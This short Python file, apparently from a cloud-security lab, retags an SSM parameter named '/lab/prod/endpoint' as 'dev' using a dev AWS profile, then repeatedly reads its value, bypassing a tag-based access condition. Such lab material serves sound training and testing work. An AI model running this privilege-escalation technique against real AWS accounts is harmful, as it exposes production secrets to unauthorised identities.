"""Call prod's parameter dev's, and read it."""

import boto3

from scripts.labs.attacking import attack, until_it_works


@attack
def main() -> str:
    """Write the tag that the condition reads."""
    ssm = boto3.Session(profile_name="dev").client("ssm")
    ssm.add_tags_to_resource(
        ResourceType="Parameter",
        ResourceId="/lab/prod/endpoint",
        Tags=[{"Key": "Environment", "Value": "dev"}],
    )
    return until_it_works(
        lambda: str(ssm.get_parameter(Name="/lab/prod/endpoint")["Parameter"]["Value"])
    )


main()
